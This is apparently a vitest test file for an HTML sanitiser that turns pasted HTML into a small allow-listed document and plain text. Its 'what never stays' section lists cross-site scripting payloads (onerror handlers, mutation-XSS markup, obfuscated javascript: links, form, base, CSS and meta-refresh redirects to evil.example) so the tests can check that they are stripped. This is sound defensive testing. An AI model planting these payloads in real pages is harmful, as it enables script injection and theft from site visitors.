import fc from 'fast-check';
import { type DefaultTreeAdapterTypes, parseFragment } from 'parse5';
import { describe, expect, it } from 'vitest';
import { documentOfHtml } from './of-html.ts';
import { documentToHtml } from './to-html.ts';
import { documentToPlain } from './to-plain.ts';

const read = (html: string) => documentToHtml(documentOfHtml(html));

const ALLOWED = new Set(['p', 'strong', 'em', 'ol', 'ul', 'li', 'a', 'br']);

/** Everything in `html`, as a browser parses it, that the allow-list does not name. */
function strangersIn(html: string): string[] {
  const found: string[] = [];
  const visit = (node: DefaultTreeAdapterTypes.ChildNode): void => {
    if (node.nodeName === '#comment') found.push('comment');
    if (!('tagName' in node)) return;
    if (!ALLOWED.has(node.tagName)) found.push(node.tagName);
    for (const { name, value } of node.attrs) if (!isAllowed(node.tagName, name, value)) found.push(`${name}=${value}`);
    node.childNodes.forEach(visit);
  };
  parseFragment(html).childNodes.forEach(visit);
  return found;
}

function isAllowed(tag: string, name: string, value: string): boolean {
  return tag === 'a' && ((name === 'href' && /^https?:\/\//.test(value)) || name === 'rel');
}

describe('what is read', () => {
  it.each([
    [
      'a proposal of ours',
      '<p><strong>Why me</strong></p><ul><li>one</li></ul>',
      '<p><strong>Why me</strong></p><ul><li>one</li></ul>',
    ],
    ['bold and italic of other editors', '<b>x</b><i>y</i>', '<p><strong>x</strong><em>y</em></p>'],
    ['all of a document of Google, which is not bold', '<b style="font-weight:normal"><p>x</p></b>', '<p>x</p>'],
    ['the words of a heading and a table', '<h1>A</h1><table><tr><td>b</td></tr></table>', '<p>A</p><p>b</p>'],
    [
      'a link of the open web',
      '<a href="https://a.example/?q=1&amp;r=2" onclick="x()" target="_top">a</a>',
      '<p><a href="https://a.example/?q=1&amp;r=2" rel="noopener noreferrer nofollow">a</a></p>',
    ],
    ['signs that look like tags', '1 &lt; 2 &amp; "3"', '<p>1 &lt; 2 &amp; &quot;3&quot;</p>'],
    ['items that are not closed', '<ul><li>a<li>b<p>c</ul>d', '<ul><li>a</li><li><p>b</p><p>c</p></li></ul><p>d</p>'],
    ['words between items', '<ul>a<li>b</li></ul>', '<ul><li>a</li><li>b</li></ul>'],
  ])('%s', (_name, given, expected) => {
    expect(read(given)).toBe(expected);
  });

  it.each([
    ['paragraphs stand apart', '<p>One.</p><p>Two.</p>', 'One.\n\nTwo.'],
    ['line breaks stay', '<p>One<br>two<br/> three </p>', 'One\ntwo\nthree'],
    ['bullets are lines', '<p>Do:</p><ul><li>a</li><li>b</li></ul>', 'Do:\n\n• a\n• b'],
    ['numbers count', '<ol><li>a</li><li>b</li></ol><p>End</p>', '1. a\n2. b\n\nEnd'],
    ["the editor's paragraphs in items leave no gap", '<ul><li><p>a</p></li><li><p>b</p></li></ul>', '• a\n• b'],
    ['nested lists are set in', '<ul><li><p>a</p><ol><li>b</li><li>c</li></ol></li></ul>', '• a\n  1. b\n  2. c'],
    ['bold and italic are plain', '<p>A <strong>b<em>c</em></strong> d</p>', 'A bc d'],
    ['styled letters stay', '<p><strong>𝗪𝗵𝘆 𝗺𝗲</strong></p><p>Text</p>', '𝗪𝗵𝘆 𝗺𝗲\n\nText'],
    ['empty paragraphs go', '<p>a</p><p></p><p> <br></p><p>b</p>', 'a\n\nb'],
    ['white space is what a browser shows', '<p>\n  a\n  b <strong> c</strong></p>\n<p>d</p>', 'a b c\n\nd'],
    ['no-break spaces stay', '<p>10\u00A0h</p>', '10\u00A0h'],
    ['loose text is a paragraph', 'a <em>b</em><p>c</p>d', 'a b\n\nc\n\nd'],
    ['nothing is nothing', '<p></p><ul></ul>', ''],
    [
      'an address is written out',
      '<p>See <a href="https://a.example/a">my <b>shop</b></a>.</p>',
      'See my shop (https://a.example/a).',
    ],
    ['an address that is there is not', '<p><a href="https://shop.com/">shop.com</a></p>', 'shop.com'],
  ])('as copied: %s', (_name, html, text) => {
    expect(documentToPlain(documentOfHtml(html))).toBe(text);
  });
});

const OWN_PAYLOADS = [
  '<img src=x onerror=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="//evil.example">x</a><a href="data:text/html,x">y</a><a href=" javascript:x">z</a>',
  '<form action=//evil.example><input name=q></form><base href=//evil.example>',
  '<style>@import "//evil.example"</style><meta http-equiv=refresh content="0;url=//evil.example">',
  '<p id=cookie name=domain style="background:url(//evil.example)" onmouseover=alert(1)>x</p>',
  '<img src="//evil.example/?',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><!--</textarea><img src=x onerror=alert(1)>-->',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data=x></object><embed src=x>',
];

describe('what never stays', () => {
  it.each(OWN_PAYLOADS)('%s', (payload) => {
    expect(strangersIn(read(payload))).toEqual([]);
  });

  it('10,000 nested tags end in an answer, not in a stack overflow', () => {
    expect(strangersIn(read('<p><em>'.repeat(10_000)))).toEqual([]);
  });

  it('any mangled text', () => {
    const piece = fc.constantFrom(
      '<',
      '>',
      '</',
      '"',
      "'",
      '=',
      '&',
      ' ',
      'a',
      'p',
      'svg',
      'href',
      '<p>',
      '<!--',
      'javascript:',
      '\u0000',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
        const once = read(pieces.join(''));
        expect(strangersIn(once)).toEqual([]);
      }),
    );
  });
});

it('leads nowhere but to the web', () => {
  const hrefs = ['javascript:alert(1)', 'jav&#x09;ascript:alert(1)', ' data:text/html,x', '//a.example', '/x'];
  const links = [...hrefs, '&#104;ttps://a'].map((href) => read(`<a href="${href}">x</a>`));
  expect(links.filter((link) => link !== '<p>x</p>')).toEqual([expect.stringContaining('href="https://a"')]);
});
